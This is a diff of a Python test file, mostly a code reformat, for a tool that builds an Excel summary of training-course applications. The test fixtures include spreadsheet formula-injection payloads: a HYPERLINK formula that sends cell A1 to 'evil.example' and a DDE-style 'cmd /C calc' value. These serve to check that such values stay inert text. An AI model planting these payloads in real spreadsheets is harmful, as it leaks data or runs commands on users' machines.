@@ -37,16 +37,37 @@ def _row_of(ws: Worksheet, form_id: str) -> int:
 def _messages(tmp_path: Path) -> list[MessageRecord]:
     (tmp_path / "data" / "att" / "ab").mkdir(parents=True)
     (tmp_path / "data" / "att" / "ab" / "abcd.docx").write_bytes(b"docx")
-    ok = make_message(0, attachments=(make_attachment("申报表0.docx", archive_path="att/ab/abcd.docx"),
-                                      make_attachment("申报表0.pdf")))
-    flagged_form = make_form("INBOX/1/2", 1, flags=(Flag("missing_field", "applicant.mobile"),
-                                                    Flag("missing_field", "承办单位信息·办公电话/手机")),
-                             project_name='=HYPERLINK("http://evil.example/?x="&A1,"点击")')
+    ok = make_message(
+        0,
+        attachments=(
+            make_attachment("申报表0.docx", archive_path="att/ab/abcd.docx"),
+            make_attachment("申报表0.pdf"),
+        ),
+    )
+    flagged_form = make_form(
+        "INBOX/1/2",
+        1,
+        flags=(
+            Flag("missing_field", "applicant.mobile"),
+            Flag("missing_field", "承办单位信息·办公电话/手机"),
+        ),
+        project_name='=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    )
     late = make_message(1, forms=(flagged_form,), flags=(Flag("late", "2024-12-18 10:00"),))
-    hostile = make_message(2, forms=(make_form("INBOX/1/3", 2, project_name="+cmd\x0b|'/C calc'\x00\ud800",
-                                               purpose="长" * 40_000),))
-    failed = make_message(3, forms=(), attachments=(), flags=(Flag("processing_failed", "boom"),),
-                          outcome="failed", subject="@SUM(1+1)")
+    hostile = make_message(
+        2,
+        forms=(
+            make_form("INBOX/1/3", 2, project_name="+cmd\x0b|'/C calc'\x00\ud800", purpose="长" * 40_000),
+        ),
+    )
+    failed = make_message(
+        3,
+        forms=(),
+        attachments=(),
+        flags=(Flag("processing_failed", "boom"),),
+        outcome="failed",
+        subject="@SUM(1+1)",
+    )
     return [ok, late, hostile, failed]
 
 
@@ -66,12 +87,30 @@ def test_sheets_and_project_headers(book: Book) -> None:
     assert wb.sheetnames == ["汇总", "申报项目", "问题清单", "邮件日志", "附件"]
     headers = list(_header(wb["申报项目"]))
     assert headers[0] == "项目名称"
-    for label in ("问题", "状态", "办班天数", "收到时间", "发件人", "源文件", "表单编号", "推荐级别", "审核意见",
-                  "审核人", "办班时间", "申报单位办公电话", "承办单位地址", "是否继续教育基地"):
+    for label in (
+        "问题",
+        "状态",
+        "办班天数",
+        "收到时间",
+        "发件人",
+        "源文件",
+        "表单编号",
+        "推荐级别",
+        "审核意见",
+        "审核人",
+        "办班时间",
+        "申报单位办公电话",
+        "承办单位地址",
+        "是否继续教育基地",
+    ):
         assert label in headers
     # the form's order: 办班时间 before 办班地点 before 研修目的和作用 before 承办单位名称
-    assert headers.index("办班时间") < headers.index("办班地点") < headers.index("研修目的和作用") \
+    assert (
+        headers.index("办班时间")
+        < headers.index("办班地点")
+        < headers.index("研修目的和作用")
         < headers.index("承办单位名称")
+    )
 
 
 def test_one_row_per_form_with_values_and_types(book: Book) -> None:
@@ -120,6 +159,7 @@ def test_formula_like_values_stay_text(book: Book) -> None:
     log = wb["邮件日志"]
     assert "@SUM(1+1)" in _column(log, "主题")
     import zipfile
+
     with zipfile.ZipFile(path) as z:
         assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
 
@@ -195,8 +235,9 @@ def test_summary_counts(book: Book) -> None:
     pairs = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value for r in range(1, ws.max_row + 1)}
     assert pairs["邮件总数"] == 4 and pairs["申报表总数"] == 3
     assert pairs["逾期提交"] == 1 and pairs["处理失败邮件"] == 1 and pairs["本次新增邮件"] == 1
-    regions = {ws.cell(row=r, column=7).value: ws.cell(row=r, column=8).value
-               for r in range(1, ws.max_row + 1)}
+    regions = {
+        ws.cell(row=r, column=7).value: ws.cell(row=r, column=8).value for r in range(1, ws.max_row + 1)
+    }
     assert regions.get("宜昌市") == 3
 
 
@@ -225,16 +266,21 @@ def test_reviewer_columns_survive_two_regenerations(tmp_path: Path) -> None:
     ws = openpyxl.load_workbook(path)["申报项目"]
     h = _header(ws)
     r = _row_of(ws, "F0001")
-    assert [ws.cell(row=r, column=h[x]).value for x in ("推荐级别", "审核意见", "审核人")] == \
-        ["推荐省级", "材料基本齐全，补手机号", "张三"]
+    assert [ws.cell(row=r, column=h[x]).value for x in ("推荐级别", "审核意见", "审核人")] == [
+        "推荐省级",
+        "材料基本齐全，补手机号",
+        "张三",
+    ]
     r2 = _row_of(ws, "F0002")
     assert ws.cell(row=r2, column=h["审核意见"]).value == "=不是公式"
     assert ws.cell(row=r2, column=h["审核意见"]).data_type == "s"
     assert ws.cell(row=_row_of(ws, "F0000"), column=h["推荐级别"]).value is None
     assert backup_path(path).exists()
     summary = openpyxl.load_workbook(path)["汇总"]
-    progress = {summary.cell(row=r, column=1).value: summary.cell(row=r, column=2).value
-                for r in range(1, summary.max_row + 1)}
+    progress = {
+        summary.cell(row=r, column=1).value: summary.cell(row=r, column=2).value
+        for r in range(1, summary.max_row + 1)
+    }
     assert progress["推荐省级"] == 1 and progress["不推荐"] == 1 and progress["未填写"] == 1
 
 
@@ -279,8 +325,9 @@ def test_review_in_a_row_without_form_id_is_kept_on_removed_sheet(tmp_path: Path
     assert ids[opinions.index("很好")] == "（无表单编号）数字经济与产业升级高级研修班0"
 
 
-def test_reviewer_saving_during_rebuild_is_not_overwritten(tmp_path: Path,
-                                                           monkeypatch: pytest.MonkeyPatch) -> None:
+def test_reviewer_saving_during_rebuild_is_not_overwritten(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     import reports.workbook as wbmod
 
     msgs = _messages(tmp_path)
@@ -320,8 +367,9 @@ def test_empty_store_and_no_leftover_temp_files(tmp_path: Path) -> None:
 
 
 def test_superseded_form_shows_status(tmp_path: Path) -> None:
-    old = make_message(0, forms=(make_form("INBOX/1/1", 0, superseded_by="F0001",
-                                           flags=(Flag("superseded", "见 F0001"),)),))
+    old = make_message(
+        0, forms=(make_form("INBOX/1/1", 0, superseded_by="F0001", flags=(Flag("superseded", "见 F0001"),)),)
+    )
     new = make_message(1)
     path = tmp_path / "w.xlsx"
     write_workbook(path, [old, replace(new)], make_run(), tz=TZ, data_dir=tmp_path)
@@ -332,23 +380,49 @@ def test_superseded_form_shows_status(tmp_path: Path) -> None:
 
 
 _junk_text = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=40)
-_junk_value = st.one_of(st.none(), st.booleans(), st.integers(), _junk_text,
-                        st.lists(_junk_text, max_size=2), st.dictionaries(_junk_text, _junk_text, max_size=2))
+_junk_value = st.one_of(
+    st.none(),
+    st.booleans(),
+    st.integers(),
+    _junk_text,
+    st.lists(_junk_text, max_size=2),
+    st.dictionaries(_junk_text, _junk_text, max_size=2),
+)
 
 
-_KEYS = ["project_name", "declared_org", "training_start", "training_end", "funding_type", "scope",
-         "applicant", "organizer", "purpose", "declared_date"]
+_KEYS = [
+    "project_name",
+    "declared_org",
+    "training_start",
+    "training_end",
+    "funding_type",
+    "scope",
+    "applicant",
+    "organizer",
+    "purpose",
+    "declared_date",
+]
 
 
 @settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(fields=st.dictionaries(st.sampled_from(_KEYS), _junk_value, max_size=8),
-       subject=_junk_text, sender=_junk_text, filename=_junk_text, detail=_junk_text)
-def test_any_junk_in_records_still_saves(tmp_path: Path, fields: dict, subject: str, sender: str,
-                                         filename: str, detail: str) -> None:
+@given(
+    fields=st.dictionaries(st.sampled_from(_KEYS), _junk_value, max_size=8),
+    subject=_junk_text,
+    sender=_junk_text,
+    filename=_junk_text,
+    detail=_junk_text,
+)
+def test_any_junk_in_records_still_saves(
+    tmp_path: Path, fields: dict, subject: str, sender: str, filename: str, detail: str
+) -> None:
     flags = (Flag("missing_field", detail), Flag("no_such_code", detail))
     form = replace(make_form("INBOX/1/1", 0, flags=flags), fields=fields, sources=(filename,))
-    msg = replace(make_message(0, forms=(form,)), subject=subject, sender=sender,
-                  attachments=(make_attachment(filename, archive_path=detail or None),))
+    msg = replace(
+        make_message(0, forms=(form,)),
+        subject=subject,
+        sender=sender,
+        attachments=(make_attachment(filename, archive_path=detail or None),),
+    )
     path = tmp_path / "junk.xlsx"
     write_workbook(path, [msg], make_run(), tz=TZ, data_dir=tmp_path)
     wb = openpyxl.load_workbook(path)
@@ -415,24 +489,51 @@ class _Reiterable:
 
 def _contents(path: Path) -> list[tuple[str, list[tuple[object, ...]], str | None]]:
     wb = openpyxl.load_workbook(path)
-    return [(ws.title, [tuple((c.value, c.fill.fgColor.rgb, c.hyperlink.target if c.hyperlink else None)
-                              for c in row) for row in ws.iter_rows()], ws.auto_filter.ref)
-            for ws in wb.worksheets]
+    return [
+        (
+            ws.title,
+            [
+                tuple((c.value, c.fill.fgColor.rgb, c.hyperlink.target if c.hyperlink else None) for c in row)
+                for row in ws.iter_rows()
+            ],
+            ws.auto_filter.ref,
+        )
+        for ws in wb.worksheets
+    ]
 
 
 def test_streamed_reiterable_builds_the_workbook_of_the_list(tmp_path: Path) -> None:
     msgs = _messages(tmp_path)
-    superseded = replace(msgs[0], key="INBOX/1/9", uid=9, message_id="<9@x>",
-                         forms=(replace(msgs[0].forms[0], form_id="f-old", superseded_by=msgs[0].forms[0].form_id,
-                                        flags=(Flag("superseded", "较新"),)),))
+    superseded = replace(
+        msgs[0],
+        key="INBOX/1/9",
+        uid=9,
+        message_id="<9@x>",
+        forms=(
+            replace(
+                msgs[0].forms[0],
+                form_id="f-old",
+                superseded_by=msgs[0].forms[0].form_id,
+                flags=(Flag("superseded", "较新"),),
+            ),
+        ),
+    )
     msgs = [*msgs, superseded]
-    run = make_run(new=frozenset({msgs[0].key}), changed=frozenset({msgs[1].key}), failed=frozenset({msgs[3].key}))
+    run = make_run(
+        new=frozenset({msgs[0].key}), changed=frozenset({msgs[1].key}), failed=frozenset({msgs[3].key})
+    )
     ordered = sorted(msgs, key=lambda m: (m.received_at.timestamp(), m.key))
-    a, b, c = tmp_path / "a" / "申报汇总.xlsx", tmp_path / "b" / "申报汇总.xlsx", tmp_path / "c" / "申报汇总.xlsx"
+    a, b, c = (
+        tmp_path / "a" / "申报汇总.xlsx",
+        tmp_path / "b" / "申报汇总.xlsx",
+        tmp_path / "c" / "申报汇总.xlsx",
+    )
     write_workbook(a, list(reversed(msgs)), run, tz=TZ, data_dir=tmp_path / "data")
     view = _Reiterable(ordered)
     write_workbook(b, view, run, tz=TZ, data_dir=tmp_path / "data")
-    write_workbook(c, _Reiterable(list(reversed(msgs))), run, tz=TZ, data_dir=tmp_path / "data")  # out of order
+    write_workbook(
+        c, _Reiterable(list(reversed(msgs))), run, tz=TZ, data_dir=tmp_path / "data"
+    )  # out of order
     assert _contents(b) == _contents(a) == _contents(c)
     assert view.passes > 2  # several passes over the view, not one pass into a list
 
@@ -442,8 +543,15 @@ def _count_from_a_list(messages: list, run: object) -> object:
     from collections import Counter
 
     from reports.counts import Counts, form_rows
-    from reports.table import (flag_title, form_flags_with_message, funding_label, guess_region,
-                               guess_unit_type, is_complete, is_late)
+    from reports.table import (
+        flag_title,
+        form_flags_with_message,
+        funding_label,
+        guess_region,
+        guess_unit_type,
+        is_complete,
+        is_late,
+    )
 
     def ranked(counter: Counter) -> tuple:
         return tuple(sorted(counter.items(), key=lambda kv: (-kv[1], kv[0])))
@@ -461,12 +569,17 @@ def _count_from_a_list(messages: list, run: object) -> object:
     complete = sum(is_complete(form_flags_with_message(r.message, r.form)) for r in current)
     late = sum(is_late(r.message, r.form) for r in current)
     return Counts(
-        mails=len(messages), mails_late=sum(is_late(m) for m in messages),
+        mails=len(messages),
+        mails_late=sum(is_late(m) for m in messages),
         mails_failed=sum(m.outcome == "failed" or m.key in run.failed_keys for m in messages),
         mails_new=sum(m.key in run.new_keys for m in messages),
         mails_changed=sum(m.key in run.changed_keys for m in messages),
-        forms=len(rows), forms_current=len(current), forms_on_time=len(current) - late, forms_late=late,
-        forms_complete=complete, forms_incomplete=len(current) - complete,
+        forms=len(rows),
+        forms_current=len(current),
+        forms_on_time=len(current) - late,
+        forms_late=late,
+        forms_complete=complete,
+        forms_incomplete=len(current) - complete,
         forms_new=sum(r.message.key in run.new_keys for r in rows),
         forms_changed=sum(r.message.key in run.changed_keys for r in rows),
         by_flag=ranked(flags),
@@ -480,6 +593,7 @@ def _count_from_a_list(messages: list, run: object) -> object:
 def test_one_pass_count_matches_the_list_based_numbers(tmp_path: Path) -> None:
     from reports.counts import count
     from reports.table import receipt_ordered
+
     msgs = _messages(tmp_path)
     dup = replace(msgs[1], key="INBOX/1/8", uid=8)  # the same form_id again: counted once as a form
     msgs = [*msgs, dup]
